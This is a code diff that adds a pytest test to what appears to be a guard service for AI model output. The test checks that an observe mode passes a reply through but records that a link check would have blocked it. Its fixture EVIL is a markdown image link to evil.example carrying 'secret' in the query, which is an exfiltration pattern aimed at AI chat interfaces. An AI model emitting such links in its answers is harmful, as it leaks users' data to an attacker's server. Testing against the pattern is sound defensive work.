@@ -9,7 +9,7 @@ import pytest
 from model_world import STREAM, answer, raw_server
 from quorate.apps.relay import pieces_in, read_relayed
 from quorate.models import ToolCallDelta
-from service_world import HONEST, Said, served
+from service_world import HONEST, Said, served, until
 
 pytestmark = pytest.mark.sockets
 EVIL = "See ![logo](https://evil.example/x.png?q=secret) for more."
@@ -116,3 +116,25 @@ def test_every_text_of_an_event_is_read() -> None:
     assert next(piece.delta for piece in pieces if isinstance(piece.delta, ToolCallDelta)).arguments == "four"
     said = read_relayed([json.dumps({"choices": [{"message": {"content": [{"text": "five"}]}}]}).encode()])
     assert said.texts == ("five",)
+
+
+@pytest.mark.parametrize("whole", [False, True], ids=["output", "service"])
+async def test_what_would_have_been_stopped_is_recorded(tmp_path: Path, whole: bool) -> None:
+    """Observed, the answer goes out byte for byte; its record says in the end that it would have been refused."""
+    reply = streamed([EVIL])
+    output = "[output]\n" + HOSTS.format(mode="hold" if whole else "observe")
+    top = 'mode = "observe"' if whole else ""
+    async with (
+        raw_server(reply) as upstream,
+        served(tmp_path, upstream_url=upstream.base_url, more=output, top=top) as world,
+    ):
+        said = await world.chat(stream=True)
+        await until(lambda: world.service.store.stats.queued == 0)
+        [record] = await world.records()
+        scrape = (await world.get("/metrics")).raw.decode()
+    assert said.raw == reply.removeprefix(STREAM) and record.record.decision == "admit"
+    rows = {row["check"]: row for row in record.verdicts}
+    assert (rows["output-links"]["outcome"], rows["output-links"]["would"]) == ("flag", "block")
+    assert (rows["output-leak"]["outcome"], rows["output-leak"]["would"]) == ("pass", "admit")
+    assert rows["threat"].get("would") == ("admit" if whole else None)
+    assert 'check="output-links",mode="observe",outcome="would_refuse"} 1.0' in scrape.replace(", ", ",")
